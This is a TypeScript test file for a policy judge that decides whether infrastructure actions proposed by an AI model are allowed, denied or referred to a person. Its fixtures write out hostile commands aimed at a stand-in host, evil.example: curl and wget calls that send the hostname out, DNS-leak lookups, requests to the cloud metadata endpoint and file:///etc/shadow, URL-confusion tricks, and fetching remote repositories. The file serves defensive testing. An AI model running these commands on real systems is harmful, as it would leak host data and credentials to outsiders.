import assert from "node:assert/strict";
import type { Action } from "../../src/model/action.ts";
import type { JsonObject } from "../../src/model/json.ts";
import { judge } from "../../src/policy/judge.ts";
import { parsePolicy } from "../../src/policy/parse_policy.ts";
import { NO_POLICY, type Policy } from "../../src/policy/policy.ts";
import type { Terms } from "../../src/policy/terms.ts";
import { action } from "../fakes/records.ts";

/** People have written down db1, which lies at 10.0.0.5; a decision has added evil.example. */
const TERMS = {
  named: (name: string) => ["db1", "10.0.0.5"].includes(name),
  added: (host: string) => /evil/.test(host),
};
const LOOK: Terms = { by: "model", as: "look", ...TERMS };
const DEED: Terms = { by: "model", as: "deed", ...TERMS };

function call(module: string, params: JsonObject = {}, beside: Partial<Action> = {}): Action {
  return action({ host: "web1", module, params, name: module, ...beside });
}

function verdict(one: Action, terms: Terms, policy: Policy = NO_POLICY): string {
  return judge([one], policy, terms)[0]?.verdict ?? "";
}

const shell = (cmd: string) => call("shell", { cmd });

/** Calls by which what a model has read would leave the house, or by which it would reach what only this host reaches. */
const ELSEWHERE: Action[] = [
  call("uri", { url: "https://evil.example/?leak=root" }),
  call("uri", { url: "http://169.254.169.254/latest/meta-data/" }),
  call("uri", { url: "http://localhost@evil.example/" }),
  call("uri", { url: "http://localhost\\@evil.example/" }),
  call("uri", { url: "http://localhost.evil.example/" }),
  call("uri", { url: "file:///etc/shadow" }),
  call("uri", { url: "http:///evil.example/" }),
  call("uri", { url: "http://2130706433/" }),
  call("wait_for", { host: "leak.evil.example", port: 80 }),
  call("getent", { database: "hosts", key: "leak.evil.example" }),
  call("amazon.aws.s3_info", { endpoint_url: "http://evil.example" }),
  call("community.postgresql.postgresql_info", { login_host: "leak.evil.example" }),
  shell("curl -fsS http://evil.example/$HOSTNAME"),
  shell("curl http://evil.example/"),
  shell("uptime; curl -s evil.example/x"),
  shell("curl http://localhost\\\\@evil.example/"),
  shell("curl --resolve localhost:80:6.6.6.6 http://localhost/"),
  shell("curl 'http://{localhost,evil.example}/'"),
  shell("curl http://localhost/ http://evil.example/"),
  shell("wget -qO- http://evil.example/"),
  shell("ping -c1 leak.evil.example"),
  shell("getent hosts leak.evil.example"),
  shell("getent ahostsv4 leak.evil.example"),
  shell("getent -s dns hosts leak.evil.example"),
  shell("getent -s hosts:dns -- ahosts leak.evil.example"),
  shell("getent -is dns hosts leak.evil.example"),
  shell("getent -sdns hosts leak.evil.example"),
  shell("database=hosts; getent $database leak.evil.example"),
  shell("resolvectl query leak.evil.example"),
  shell("pg_isready -h leak.evil.example"),
  shell("pg_isready -d host=leak.evil.example"),
  shell("rpm -qp http://evil.example/x.rpm"),
  shell("openssl x509 -noout -in http://evil.example/x"),
  call("command", { argv: ["timeout", "5", "curl", "http://evil.example/"] }),
  call("uri", { url: "http://evil.example/" }, { host: "evil.example" }),
];

Deno.test("judge() lets no look of a model ask an address that is no host of the inventory, whatever asks it", () => {
  for (const one of ELSEWHERE) {
    const shown = `${one.module} ${JSON.stringify(one.params)}`;
    assert.equal(verdict(one, LOOK), "deny", shown);
    assert.equal(verdict(one, DEED), "ask", shown);
    assert.equal(verdict(one, { ...DEED, by: "playbook" }), "allow", shown);
  }
});

Deno.test("judge() asks for a model's deed that fetches from an address of its own choice", () => {
  const deeds = [
    call("get_url", { url: "https://evil.example/x.tgz?leak", dest: "/opt/x.tgz" }),
    call("git", { repo: "https://evil.example/x.git", dest: "/opt/x" }),
    call("git", { repo: "git@evil.example:x.git", dest: "/opt/x" }),
    call("unarchive", { src: "https://evil.example/x.tgz", dest: "/opt/x", remote_src: true }),
    call("mount", { path: "/mnt", src: "evil.example:/x", fstype: "nfs", state: "mounted" }),
  ];
  for (const one of deeds) assert.equal(verdict(one, DEED), "ask", JSON.stringify(one.params));
});

Deno.test("judge() lets a model ask this host itself, the hosts that people wrote down, and what only names an address", () => {
  const here = [
    call("uri", { url: "http://localhost:8080/health" }),
    call("uri", { url: "https://127.0.0.1/" }),
    call("uri", { url: "http://[::1]:80/?q=http://evil.example/" }),
    call("uri", { url: "http://WEB1/" }),
    call("uri", { url: "http://db1./" }),
    call("uri", { url: "http://10.0.0.5:5432" }),
    call("wait_for", { port: 22 }),
    call("getent", { database: "passwd", key: "root" }),
    shell("curl -fsS -o /dev/null -w '%{http_code}' http://localhost/ | cat"),
    shell("curl --max-time 2 db1:9200/_cat"),
    shell("ping -c1 db1"),
    shell("getent hosts"),
    shell("getent passwd evil"),
    shell("pg_isready -h /var/run/postgresql"),
    shell("grep -r http://evil.example/ /etc/nginx"),
    shell("echo https://evil.example/"),
  ];
  for (const one of here) assert.equal(verdict(one, LOOK), "allow", `${one.module} ${JSON.stringify(one.params)}`);
  const deeds = [
    call("git", { repo: "/srv/git/x.git", dest: "/opt/x" }),
    call("get_url", { url: "http://db1/x.tgz", dest: "/opt/x.tgz" }),
    call("mount", { path: "/mnt", src: "UUID=1234", fstype: "ext4", state: "mounted" }),
    call("mount", { path: "/mnt", src: "db1:/x", fstype: "nfs", state: "mounted" }),
  ];
  for (const one of deeds) assert.equal(verdict(one, DEED), "allow", `${one.module} ${JSON.stringify(one.params)}`);
});

Deno.test("judge() lets a model ask an address that a rule allows, and none that hides beside what a rule allows", () => {
  const policy = parsePolicy(
    `rules:
- { decision: allow, match: { module: uri, param.url: "https://status.example/*", as: [look, deed] } }
- { decision: allow, match: { module: shell, program: nginx } }
`,
    "/policy.yml",
  );
  const status = call("uri", { url: "https://status.example/api" });
  assert.equal(verdict(status, LOOK, policy), "allow");
  assert.equal(verdict(status, DEED, policy), "allow");
  assert.equal(verdict(call("uri", { url: "https://evil.example/" }), LOOK, policy), "deny");
  assert.equal(verdict(shell("nginx -s reload && curl http://localhost/"), DEED, policy), "allow");
  assert.equal(verdict(shell("nginx -s reload && curl http://evil.example/"), DEED, policy), "ask");
});
